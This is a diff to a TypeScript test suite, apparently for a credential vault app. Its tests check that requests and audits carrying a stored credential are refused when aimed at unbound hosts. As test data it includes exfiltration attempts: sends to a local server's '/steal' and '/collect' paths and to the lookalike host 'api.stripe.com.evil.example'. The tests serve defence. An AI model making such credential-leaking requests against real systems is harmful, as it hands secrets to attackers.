@@ -15,7 +15,7 @@ import { BridgeError, createClient, type Envelope } from '../../../preload/api';
 import { CHANNEL_NAMES, channels } from '../../../preload/contract';
 import { createHostApp, type HostApp } from '../../host/host-app';
 import { MAX_FRAME_BYTES } from '../../host/server';
-import { startScriptedServer } from '../../peers/scripted-server';
+import { type ScriptedServer, startScriptedServer } from '../../peers/scripted-server';
 import { pngDeclaring } from '../../support/png-bomb';
 
 const MASTER = 'correct horse battery staple';
@@ -228,34 +228,58 @@ describe('hostile frames', () => {
 });
 
 describe('host binding is decided in main', () => {
-  it('a signed send to a host the credential is not bound to is refused, naming the host; nothing goes out', async () => {
+  /** A script's own server, and the stored credential it would like sent there. */
+  async function atStranger(attack: (b: Bridge, server: ScriptedServer, credentialId: string) => Promise<void>) {
     const server = await startScriptedServer();
+    const b = await connect();
     try {
-      const b = await connect();
       await value(b, 'vault.unlock', { password: MASTER });
       const view = await value<{ credentials: { id: string }[] }>(b, 'services.get', { id: serviceId });
-      const credentialId = view.credentials[0]?.id ?? '';
-      const steal = (url: string) =>
-        b.call('requests.send', { requestId: 'r_steal', serviceId, credentialId, request: { method: 'GET', url } });
-      for (const [url, host, reason] of [
-        [`${server.url}/steal`, `127.0.0.1:${server.port}`, 'unbound-host'],
-        ['https://api.stripe.com.evil.example/v1', 'api.stripe.com.evil.example', 'unbound-host'],
-        ['http://api.stripe.com/v1', 'api.stripe.com', 'plain-http'],
-      ] as const) {
-        const refused = await steal(url);
-        expect(refused, url).toMatchObject({
-          ok: false,
-          error: { code: 'ERR_HOST_NOT_ALLOWED', detail: { host, reason } },
-        });
-        if (!refused.ok) expect(refused.error.message).toContain(host);
-        expect(JSON.stringify(refused)).not.toContain(SECRET);
-      }
+      await attack(b, server, view.credentials[0]?.id ?? '');
       expect(server.seen).toHaveLength(0);
-      b.close();
     } finally {
+      b.close();
       await server.close();
     }
-  }, 30_000);
+  }
+
+  it(
+    'a signed send to a host the credential is not bound to is refused, naming the host; nothing goes out',
+    () =>
+      atStranger(async (b, server, credentialId) => {
+        const steal = (url: string) =>
+          b.call('requests.send', { requestId: 'r_steal', serviceId, credentialId, request: { method: 'GET', url } });
+        for (const [url, host, reason] of [
+          [`${server.url}/steal`, `127.0.0.1:${server.port}`, 'unbound-host'],
+          ['https://api.stripe.com.evil.example/v1', 'api.stripe.com.evil.example', 'unbound-host'],
+          ['http://api.stripe.com/v1', 'api.stripe.com', 'plain-http'],
+        ] as const) {
+          const refused = await steal(url);
+          expect(refused, url).toMatchObject({
+            ok: false,
+            error: { code: 'ERR_HOST_NOT_ALLOWED', detail: { host, reason } },
+          });
+          if (!refused.ok) expect(refused.error.message).toContain(host);
+          expect(JSON.stringify(refused)).not.toContain(SECRET);
+        }
+      }),
+    30_000,
+  );
+
+  it(
+    "an audit with the credential at the script's own server is refused the same way; the server receives nothing",
+    () =>
+      atStranger(async (b, server, credentialId) => {
+        const host = `127.0.0.1:${server.port}`;
+        const refused = await b.call('audit.run', { url: `${server.url}/collect`, serviceId, credentialId });
+        expect(refused).toMatchObject({
+          ok: false,
+          error: { code: 'ERR_HOST_NOT_ALLOWED', detail: { host, reason: 'unbound-host' } },
+        });
+        expect(JSON.stringify(refused)).not.toContain(SECRET);
+      }),
+    30_000,
+  );
 });
 
 describe('default headers from a script', () => {
